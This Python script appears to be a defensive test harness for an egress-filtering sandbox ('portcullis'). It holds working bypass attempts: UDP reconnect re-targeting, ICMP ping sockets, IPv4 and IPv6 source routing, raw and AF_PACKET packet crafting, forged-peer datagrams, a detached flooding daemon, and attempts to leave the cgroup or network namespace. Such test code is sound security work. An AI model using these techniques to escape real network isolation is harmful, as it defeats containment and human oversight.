#!/usr/bin/env python3
"""Bypass attempts of the security tests (issue: egress bypasses), one per
mode. Each prints one JSON object saying what each step did; whether
anything got out is decided at the target (listen.py), never here.

  attack.py udp-reconnect FIRST FIRST_PORT DST PORT N
      UDP socket connected to FIRST:FIRST_PORT (allowed), disconnected
      (connect AF_UNSPEC), connected to DST:PORT, then N send()s.
  attack.py ping-sendto FIRST DST N
      ICMP "ping" socket (SOCK_DGRAM, IPPROTO_ICMP[V6]) connected to FIRST,
      disconnected, then N echo requests sendto() DST (ping sockets have no
      sendmsg hook).
  attack.py srr-tcp HOP DST PORT
      TCP socket with a loose source route via HOP (IP_OPTIONS, or an IPv6
      segment routing header), connect()ed to DST:PORT.
  attack.py srr-udp-cmsg HOP DST PORT N
      UDP datagrams to DST:PORT with the source route in a control message
      (IP_RETOPTS / IPV6_RTHDR): no setsockopt at all.
  attack.py srr-raw HOP DST PORT N
      Raw IPv4 UDP packets (IP_HDRINCL; CAP_NET_RAW) whose IP destination
      is HOP and whose loose source route names DST next: no socket hook
      ever sees DST.
  attack.py daemon DST PORT SECS [DELAY]
      Forks a session leader that, after DELAY s, sends UDP datagrams (and
      every 50th time a TCP SYN) to DST:PORT as fast as it can for SECS s;
      the parent exits at once.
  attack.py packet-socket IFACE GW_MAC SRC DST PORT N
      AF_PACKET frames carrying UDP datagrams SRC -> DST:PORT (needs
      CAP_NET_RAW; cgroup hooks never see them).
  attack.py forge-peer PEER PORT LOCAL_PORT
      Raw socket (CAP_NET_RAW): a datagram on loopback "from" PEER:PORT to
      LOCAL_PORT, then a UDP socket bound there, connected to PEER:PORT,
      sends 3 datagrams (a "reply" to the forged peer).
  attack.py caps
      Tries what dropped capabilities forbid: AF_PACKET, raw and TUN
      sockets, a new network namespace, leaving the cgroup.
  attack.py fds
      Lists this process's descriptors that are sockets (besides 0-2).
"""

import ctypes
import errno
import json
import os
import socket
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)


def out(**kw):
    print(json.dumps(kw), flush=True)


def err_name(e):
    return errno.errorcode.get(e.errno, str(e.errno)) if isinstance(e, OSError) else str(e)


def fam(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


def disconnect(s):
    # struct sockaddr { sa_family_t = AF_UNSPEC; ... }
    sa = ctypes.create_string_buffer(struct.pack("H", 0) + b"\0" * 26)
    rc = libc.connect(s.fileno(), sa, 28 if s.family == socket.AF_INET6 else 16)
    return "ok" if rc == 0 else errno.errorcode.get(ctypes.get_errno())


def sends(fn, n):
    res = {"sent": 0, "errors": {}}
    for _ in range(n):
        try:
            fn()
            res["sent"] += 1
        except OSError as e:
            k = err_name(e)
            res["errors"][k] = res["errors"].get(k, 0) + 1
        time.sleep(0.005)
    return res


def udp_reconnect(first, first_port, dst, port, n):
    s = socket.socket(fam(dst), socket.SOCK_DGRAM)
    steps = {}
    try:
        s.connect((first, int(first_port)))
        steps["connect_first"] = "ok"
    except OSError as e:
        steps["connect_first"] = err_name(e)
    steps["disconnect"] = disconnect(s)
    try:
        s.connect((dst, int(port)))
        steps["connect_dst"] = "ok"
    except OSError as e:
        steps["connect_dst"] = err_name(e)
    steps["send"] = sends(lambda: s.send(b"portcullis-bypass"), int(n))
    out(**steps)


def icmp_echo(v6, seq):
    kind = 128 if v6 else 8
    return struct.pack("!BBHHH", kind, 0, 0, 0, seq) + b"portcullis-bypass"


def ping_sendto(first, dst, n):
    v6 = ":" in dst
    proto = socket.IPPROTO_ICMPV6 if v6 else socket.IPPROTO_ICMP
    steps = {}
    try:
        s = socket.socket(fam(dst), socket.SOCK_DGRAM, proto)
    except OSError as e:
        out(socket=err_name(e))
        return
    try:
        s.connect((first, 0))
        steps["connect_first"] = "ok"
    except OSError as e:
        steps["connect_first"] = err_name(e)
    # Keeps the socket's allowance (if any) but drops its loopback source
    # address, which the kernel would refuse to send elsewhere from.
    steps["disconnect"] = disconnect(s)
    seq = iter(range(1, 1 << 16))
    steps["send"] = sends(lambda: s.sendto(icmp_echo(v6, next(seq)), (dst, 0)), int(n))
    out(**steps)


def lsrr(hop):
    # Loose source route, one hop: type, length 7, pointer 4, address; EOL.
    return bytes([0x83, 7, 4]) + socket.inet_aton(hop) + b"\0"


def srh(hop, dst):
    # Segment routing header (RFC 8754), two segments: the final
    # destination is segment 0, the active one (segments_left 1) the hop.
    head = struct.pack("!BBBBBBH", 0, 4, 4, 1, 1, 0, 0)
    return head + socket.inet_pton(socket.AF_INET6, dst) + socket.inet_pton(socket.AF_INET6, hop)


IP_OPTIONS, IP_RETOPTS, IPV6_RTHDR = 4, 7, 57


def srr_tcp(hop, dst, port):
    v6 = ":" in dst
    s = socket.socket(fam(dst), socket.SOCK_STREAM)
    s.settimeout(2)
    steps = {}
    try:
        if v6:
            s.setsockopt(socket.IPPROTO_IPV6, IPV6_RTHDR, srh(hop, dst))
        else:
            s.setsockopt(socket.IPPROTO_IP, IP_OPTIONS, lsrr(hop))
        steps["setsockopt"] = "ok"
    except OSError as e:
        steps["setsockopt"] = err_name(e)
    try:
        s.connect((dst, int(port)))
        steps["connect"] = "ok"
    except socket.timeout:
        steps["connect"] = "timeout"
    except OSError as e:
        steps["connect"] = err_name(e)
    out(**steps)


def srr_udp_cmsg(hop, dst, port, n):
    v6 = ":" in dst
    s = socket.socket(fam(dst), socket.SOCK_DGRAM)
    anc = [(socket.IPPROTO_IPV6, IPV6_RTHDR, srh(hop, dst))] if v6 else [(socket.IPPROTO_IP, IP_RETOPTS, lsrr(hop))]
    res = sends(lambda: s.sendmsg([b"portcullis-bypass"], anc, 0, (dst, int(port))), int(n))
    out(send=res)


def srr_raw(hop, dst, port, n):
    try:
        r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except OSError as e:
        out(raw=err_name(e))
        return
    opts = lsrr(dst)
    payload = b"portcullis-srr"
    udp = struct.pack("!HHHH", 40001, int(port), 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x40 | (5 + len(opts) // 4), 0, 20 + len(opts) + len(udp), 3, 0, 64, 17, 0,
                     b"\0\0\0\0", socket.inet_aton(hop)) + opts
    out(send=sends(lambda: r.sendto(ip + udp, (hop, 0)), int(n)))


def daemon(dst, port, secs, delay="0"):
    if os.fork() > 0:
        out(parent="exited")
        return
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    for fd in (0, 1, 2):
        os.close(fd)
    time.sleep(float(delay))
    end = time.monotonic() + float(secs)
    u = socket.socket(fam(dst), socket.SOCK_DGRAM)
    n = 0
    # As fast as it can: any moment without enforcement lets some out.
    while time.monotonic() < end:
        try:
            u.sendto(b"portcullis-daemon", (dst, int(port)))
        except OSError:
            pass
        n += 1
        if n % 50 == 0:
            t = socket.socket(fam(dst), socket.SOCK_STREAM)
            t.setblocking(False)
            try:
                t.connect((dst, int(port)))
            except OSError:
                pass
            t.close()
    os._exit(0)


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def packet_socket(iface, gw_mac, src, dst, port, n):
    try:
        s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
        s.bind((iface, 0))
    except OSError as e:
        out(socket=err_name(e))
        return
    payload = b"portcullis-packet"
    udp = struct.pack("!HHHH", 40000, int(port), 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                     socket.inet_aton(src), socket.inet_aton(dst))
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    mac = bytes.fromhex(gw_mac.replace(":", ""))
    # The interface's own address (SIOCGIFHWADDR), not /sys: that shows the
    # namespace the sysfs was mounted in, not necessarily this one.
    import fcntl
    req = fcntl.ioctl(s.fileno(), 0x8927, struct.pack("256s", iface.encode()[:15]))
    own = req[18:24]
    frame = mac + own + b"\x08\x00" + ip + udp
    out(socket="ok", send=sends(lambda: s.send(frame), int(n)))


def forge_peer(peer, port, local_port):
    steps = {}
    try:
        r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except OSError as e:
        out(raw=err_name(e))
        return
    payload = b"forged"
    udp = struct.pack("!HHHH", int(port), int(local_port), 8 + len(payload), 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 2, 0, 64, 17, 0,
                     socket.inet_aton(peer), socket.inet_aton("127.0.0.1"))
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    u.bind(("0.0.0.0", int(local_port)))
    u.settimeout(1)
    r.sendto(ip + udp, ("127.0.0.1", 0))
    try:
        data, src = u.recvfrom(100)
        steps["forged_received"] = [src[0], src[1]]
    except socket.timeout:
        steps["forged_received"] = None
    try:
        u.connect((peer, int(port)))
        steps["connect"] = "ok"
    except OSError as e:
        steps["connect"] = err_name(e)
    steps["send"] = sends(lambda: u.send(b"reply-to-forged"), 3)
    out(**steps)


def caps():
    res = {}

    def attempt(name, fn):
        try:
            fn()
            res[name] = "ok"
        except OSError as e:
            res[name] = err_name(e)

    attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
    attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))

    def tun():
        fd = os.open("/dev/net/tun", os.O_RDWR)
        try:
            import fcntl
            fcntl.ioctl(fd, 0x400454CA, struct.pack("16sH", b"pctun%d", 0x0001 | 0x1000))
        finally:
            os.close(fd)

    attempt("tun", tun)

    def unshare_net():
        if libc.unshare(0x40000000) != 0:
            e = ctypes.get_errno()
            raise OSError(e, os.strerror(e))

    attempt("unshare_net", unshare_net)

    def leave_cgroup():
        # Into the cgroup v2 root, as seen from here.
        for line in open("/proc/self/mountinfo"):
            f = line.split()
            if f[f.index("-") + 1] == "cgroup2":
                with open(os.path.join(f[4], "cgroup.procs"), "w") as p:
                    p.write(str(os.getpid()))
                return
        raise OSError(errno.ENOENT, "no cgroup2 mount")

    attempt("leave_cgroup", leave_cgroup)
    res["cgroup"] = open("/proc/self/cgroup").read().strip()
    res["uid"] = os.getuid()
    out(**res)


def fds():
    socks = []
    for fd in sorted(int(x) for x in os.listdir("/proc/self/fd")):
        try:
            target = os.readlink(f"/proc/self/fd/{fd}")
        except OSError:
            continue
        if fd > 2 and target.startswith("socket:"):
            socks.append([fd, target])
    out(sockets=socks)


MODES = {
    "udp-reconnect": udp_reconnect,
    "ping-sendto": ping_sendto,
    "srr-tcp": srr_tcp,
    "srr-udp-cmsg": srr_udp_cmsg,
    "srr-raw": srr_raw,
    "daemon": daemon,
    "packet-socket": packet_socket,
    "forge-peer": forge_peer,
    "caps": caps,
    "fds": fds,
}

if __name__ == "__main__":
    MODES[sys.argv[1]](*sys.argv[2:])
